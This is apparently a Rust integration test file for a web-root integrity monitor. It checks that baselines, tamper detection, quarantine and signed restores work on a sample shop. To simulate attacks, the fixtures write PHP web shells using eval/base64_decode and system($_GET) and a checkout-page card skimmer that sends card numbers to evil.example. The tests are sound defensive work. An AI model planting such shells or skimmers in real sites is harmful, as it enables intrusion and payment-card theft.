//! Baseline, status, accept and restore against real files in a temporary web root.

#![allow(clippy::unwrap_used)] // in tests a panic is the failure report

use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use chrono::{DateTime, Utc};
use ensuresec_integrity::{ChangeKind, IntegrityError, StateDir, ops, restore};

fn t(s: &str) -> DateTime<Utc> {
    DateTime::parse_from_rfc3339(s).unwrap().to_utc()
}

/// A small shop: PHP entry point, checkout script, a cache folder that is ignored.
fn shop(root: &Path) {
    std::fs::create_dir_all(root.join("app/js")).unwrap();
    std::fs::create_dir_all(root.join("var/cache")).unwrap();
    std::fs::write(
        root.join("index.php"),
        "<?php\nrequire 'app/boot.php';\nrun();\n",
    )
    .unwrap();
    std::fs::write(
        root.join("app/boot.php"),
        "<?php\nfunction run() { echo 'shop'; }\n",
    )
    .unwrap();
    std::fs::write(
        root.join("app/js/checkout.js"),
        "function pay(form) {\n  return form.submit();\n}\n",
    )
    .unwrap();
    std::fs::write(
        root.join("app/logo.png"),
        [0x89, b'P', b'N', b'G', 0, 1, 2, 0xff],
    )
    .unwrap();
    std::fs::write(root.join("var/cache/page.html"), "cached").unwrap();
    std::os::unix::fs::symlink("app/boot.php", root.join("boot-link.php")).unwrap();
}

struct Fixture {
    _dir: tempfile::TempDir,
    root: std::path::PathBuf,
    state: StateDir,
}

fn fixture() -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("www");
    shop(&root);
    let state = StateDir::open(&dir.path().join("state"), None).unwrap();
    ops::create(
        &state,
        &root,
        vec!["var/cache/**".into()],
        t("2026-12-04T10:00:00Z"),
        Some("initial".into()),
    )
    .unwrap();
    let root = std::fs::canonicalize(root).unwrap();
    Fixture {
        _dir: dir,
        root,
        state,
    }
}

fn kinds(state: &StateDir) -> Vec<(String, ChangeKind)> {
    let (_, status) = ops::status(state).unwrap();
    status
        .changes
        .into_iter()
        .map(|c| (c.path, c.kind))
        .collect()
}

#[test]
fn a_fresh_baseline_is_signed_and_shows_no_change() {
    let f = fixture();
    let b = f.state.load().unwrap();
    assert_eq!(b.header.generation, 1);
    assert_eq!(
        b.header.files, 5,
        "four files and a symlink; the cache is ignored"
    );
    assert!(b.manifest.contains_key("app/js/checkout.js"));
    assert!(!b.manifest.keys().any(|p| p.starts_with("var/cache")));
    assert!(
        b.note.contains("\u{2014} ensuresec-integrity "),
        "{}",
        b.note
    );
    assert!(kinds(&f.state).is_empty());
    // Ignored paths may change freely.
    std::fs::write(f.root.join("var/cache/new.html"), "x").unwrap();
    assert!(kinds(&f.state).is_empty());
    // A second first baseline is refused.
    let e = ops::create(&f.state, &f.root, vec![], t("2026-12-04T10:05:00Z"), None).unwrap_err();
    assert!(e.to_string().contains("already exists"), "{e}");
}

#[test]
fn planted_edited_deleted_and_chmodded_files_are_reported_with_evidence() {
    let f = fixture();
    std::fs::write(
        f.root.join("app/shell.php"),
        "<?php @eval(base64_decode($_POST['x'])); ?>",
    )
    .unwrap();
    std::fs::write(
        f.root.join("app/js/checkout.js"),
        "function pay(form) {\n  new Image().src='https://evil.example/c?'+btoa(form.cc.value);\n  return form.submit();\n}\n",
    )
    .unwrap();
    std::fs::remove_file(f.root.join("app/boot.php")).unwrap();
    std::fs::set_permissions(
        f.root.join("index.php"),
        std::fs::Permissions::from_mode(0o777),
    )
    .unwrap();
    assert_eq!(
        kinds(&f.state),
        vec![
            ("app/boot.php".to_string(), ChangeKind::Deleted),
            ("app/js/checkout.js".to_string(), ChangeKind::Modified),
            ("app/shell.php".to_string(), ChangeKind::Added),
            ("index.php".to_string(), ChangeKind::Metadata),
        ]
    );
    let (_, status) = ops::status(&f.state).unwrap();
    let edit = status
        .changes
        .iter()
        .find(|c| c.kind == ChangeKind::Modified)
        .unwrap();
    assert_ne!(
        edit.before.as_ref().unwrap().hash,
        edit.after.as_ref().unwrap().hash
    );
    let d = ops::text_diff_of(&f.state, &f.root, edit).unwrap().unwrap();
    assert_eq!((d.added, d.removed), (1, 0));
    assert!(d.lines[0].contains("evil.example"), "{:?}", d.lines);
}

#[test]
fn restore_all_brings_back_byte_identical_files_and_quarantines_planted_ones() {
    let f = fixture();
    let original = std::fs::read(f.root.join("app/logo.png")).unwrap();
    let checkout = std::fs::read(f.root.join("app/js/checkout.js")).unwrap();
    let mtime = std::fs::metadata(f.root.join("app/js/checkout.js"))
        .unwrap()
        .modified()
        .unwrap();
    std::fs::write(f.root.join("app/logo.png"), b"defaced").unwrap();
    std::fs::write(f.root.join("app/js/checkout.js"), b"skimmer();").unwrap();
    std::fs::remove_file(f.root.join("index.php")).unwrap();
    std::fs::remove_file(f.root.join("boot-link.php")).unwrap();
    std::fs::write(f.root.join("app/js/shell.php"), "<?php system($_GET['c']);").unwrap();
    std::fs::set_permissions(
        f.root.join("app/boot.php"),
        std::fs::Permissions::from_mode(0o600),
    )
    .unwrap();

    let (b, status) = ops::status(&f.state).unwrap();
    let report = restore::apply(&f.state, &b, &status.changes, t("2026-12-04T11:00:00Z")).unwrap();
    assert_eq!(report.quarantined.len(), 1);
    assert_eq!(report.restored.len(), 4);
    assert_eq!(report.metadata, vec!["app/boot.php".to_string()]);

    assert_eq!(
        std::fs::read(f.root.join("app/logo.png")).unwrap(),
        original
    );
    assert_eq!(
        std::fs::read(f.root.join("app/js/checkout.js")).unwrap(),
        checkout
    );
    assert_eq!(
        std::fs::metadata(f.root.join("app/js/checkout.js"))
            .unwrap()
            .modified()
            .unwrap(),
        mtime
    );
    assert_eq!(
        std::fs::read_link(f.root.join("boot-link.php")).unwrap(),
        Path::new("app/boot.php")
    );
    assert!(!f.root.join("app/js/shell.php").exists());
    let (_, to) = &report.quarantined[0];
    assert_eq!(
        std::fs::read_to_string(to).unwrap(),
        "<?php system($_GET['c']);"
    );
    assert_eq!(
        std::fs::metadata(f.root.join("app/boot.php"))
            .unwrap()
            .permissions()
            .mode()
            & 0o777,
        0o644
    );
    assert!(
        kinds(&f.state).is_empty(),
        "nothing differs after the restore"
    );
    let journal = std::fs::read_to_string(f.state.dir().join("journal.ndjson")).unwrap();
    assert!(journal.contains("\"op\":\"restore\"") && journal.contains("app/js/shell.php"));
}

/// Whether this process may give files away (the owner of `/proc/self` is our user).
fn running_as_root() -> bool {
    use std::os::unix::fs::MetadataExt;
    std::fs::metadata("/proc/self").is_ok_and(|m| m.uid() == 0)
}

#[test]
fn a_set_user_id_program_of_another_owner_is_restored_with_its_owner_and_mode() {
    use std::os::unix::fs::MetadataExt;
    if !running_as_root() {
        eprintln!("skipped: only root can restore a file to another owner");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("www");
    shop(&root);
    let tool = root.join("app/tool");
    std::fs::write(&tool, "#!/bin/sh\necho tool\n").unwrap();
    std::os::unix::fs::chown(&tool, Some(1000), Some(1000)).unwrap();
    // After the change of owner, which would clear the bit.
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o4755)).unwrap();
    let state = StateDir::open(&dir.path().join("state"), None).unwrap();
    ops::create(&state, &root, vec![], t("2026-12-04T10:00:00Z"), None).unwrap();
    std::fs::write(&tool, "#!/bin/sh\nsteal\n").unwrap();

    let (b, status) = ops::status(&state).unwrap();
    let root = std::fs::canonicalize(root).unwrap();
    let report = restore::apply(&state, &b, &status.changes, t("2026-12-04T11:00:00Z")).unwrap();
    assert_eq!(report.restored.len(), 1, "{report:?}");
    assert!(report.warnings.is_empty(), "{:?}", report.warnings);
    let m = std::fs::metadata(root.join("app/tool")).unwrap();
    assert_eq!(m.mode() & 0o7777, 0o4755);
    assert_eq!((m.uid(), m.gid()), (1000, 1000));
    assert_eq!(
        std::fs::read_to_string(root.join("app/tool")).unwrap(),
        "#!/bin/sh\necho tool\n"
    );
}

#[test]
fn restoring_one_path_leaves_the_others_alone() {
    let f = fixture();
    std::fs::write(f.root.join("index.php"), "hacked").unwrap();
    std::fs::write(f.root.join("app/boot.php"), "hacked too").unwrap();
    let (b, status) = ops::status(&f.state).unwrap();
    let only = restore::select(status.changes, Some("app"));
    assert_eq!(only.len(), 1);
    restore::apply(&f.state, &b, &only, t("2026-12-04T11:00:00Z")).unwrap();
    assert_eq!(
        kinds(&f.state),
        vec![("index.php".to_string(), ChangeKind::Modified)]
    );
}

#[test]
fn a_planted_symlink_folder_is_quarantined_not_followed() {
    let f = fixture();
    let outside = f.root.parent().unwrap().join("outside");
    std::fs::create_dir(&outside).unwrap();
    std::fs::remove_dir_all(f.root.join("app")).unwrap();
    std::os::unix::fs::symlink(&outside, f.root.join("app")).unwrap();
    let (b, status) = ops::status(&f.state).unwrap();
    restore::apply(&f.state, &b, &status.changes, t("2026-12-04T11:00:00Z")).unwrap();
    assert_eq!(
        std::fs::read_dir(&outside).unwrap().count(),
        0,
        "nothing written outside"
    );
    assert!(f.root.join("app").is_dir() && !f.root.join("app").is_symlink());
    assert!(kinds(&f.state).is_empty());
}

#[test]
fn an_accepted_deploy_becomes_the_baseline_and_the_old_one_is_kept() {
    let f = fixture();
    std::fs::write(
        f.root.join("app/js/checkout.js"),
        "function pay() { /* v2 */ }\n",
    )
    .unwrap();
    std::fs::write(f.root.join("app/new.php"), "<?php // feature").unwrap();
    let (new, changes) = ops::accept(
        &f.state,
        t("2026-12-04T12:00:00Z"),
        Some("deploy 2".into()),
        None,
    )
    .unwrap();
    assert_eq!(new.header.generation, 2);
    assert_eq!(changes.len(), 2);
    assert!(
        kinds(&f.state).is_empty(),
        "an accepted deploy raises nothing"
    );
    assert!(f.state.dir().join("history/1.note").is_file());
    // The new version can itself be restored.
    std::fs::write(f.root.join("app/new.php"), "tampered").unwrap();
    let (b, status) = ops::status(&f.state).unwrap();
    restore::apply(&f.state, &b, &status.changes, t("2026-12-04T12:30:00Z")).unwrap();
    assert_eq!(
        std::fs::read_to_string(f.root.join("app/new.php")).unwrap(),
        "<?php // feature"
    );
}

#[test]
fn a_tampered_baseline_or_manifest_is_refused() {
    let f = fixture();
    let note_path = f.state.dir().join("baseline.note");
    let note = std::fs::read_to_string(&note_path).unwrap();
    std::fs::write(&note_path, note.replace("generation 1", "generation 7")).unwrap();
    let e = f.state.load().unwrap_err();
    assert!(e.to_string().starts_with("baseline signature"), "{e}");
    std::fs::write(&note_path, &note).unwrap();
    let b = f.state.load().unwrap();
    let manifest = f
        .state
        .dir()
        .join(format!("manifests/{}.ndjson", b.header.manifest));
    let text = std::fs::read_to_string(&manifest).unwrap();
    std::fs::write(&manifest, text.replace("\"mode\":420", "\"mode\":511")).unwrap();
    let e = f.state.load().unwrap_err();
    assert!(e.to_string().contains("the signed baseline says"), "{e}");
    // A pinned key that did not sign it is refused too.
    let (_, other) = ensuresec_auditlog::note::generate_key(
        "ensuresec-integrity",
        ensuresec_auditlog::note::KeyKind::Ed25519,
    )
    .unwrap();
    std::fs::write(&manifest, text).unwrap();
    let pinned = StateDir::open(f.state.dir(), Some(other)).unwrap();
    assert!(pinned.load().is_err());
}

#[test]
fn a_restore_listed_before_an_accept_is_refused_and_undoes_nothing() {
    let f = fixture();
    std::fs::write(f.root.join("index.php"), "<?php // release 2").unwrap();
    let (listed, status) = ops::status(&f.state).unwrap();
    // A deploy is accepted (by an operator) while the restore (by the monitor) is on its way.
    ops::accept(&f.state, t("2026-12-04T12:00:00Z"), None, None).unwrap();
    let refused = restore::apply(
        &f.state,
        &listed,
        &status.changes,
        t("2026-12-04T12:00:01Z"),
    )
    .unwrap_err();
    assert!(
        matches!(
            refused,
            IntegrityError::BaselineChanged { was: 1, now: 2, .. }
        ),
        "{refused}"
    );
    assert!(refused.to_string().contains("nothing was restored"));
    assert_eq!(
        std::fs::read_to_string(f.root.join("index.php")).unwrap(),
        "<?php // release 2",
        "the accepted deploy stays"
    );
}

#[test]
fn a_change_of_the_state_folder_removes_what_an_interrupted_write_left() {
    let f = fixture();
    let state = f.state.dir();
    let leftovers: Vec<_> = ["", "manifests", "history", "objects/tmp"]
        .into_iter()
        .map(|folder| {
            let temporary = ensuresec_durable::temporary_in(&state.join(folder), "crash").unwrap();
            temporary.keep().unwrap().1
        })
        .collect();
    std::fs::write(f.root.join("app/new.php"), "<?php // feature").unwrap();
    ops::accept(&f.state, t("2026-12-04T12:00:00Z"), None, None).unwrap();
    for leftover in &leftovers {
        assert!(!leftover.exists(), "{} left", leftover.display());
    }
    assert!(state.join("history/1.note").is_file());
    assert_eq!(kinds(&f.state), vec![]);
}
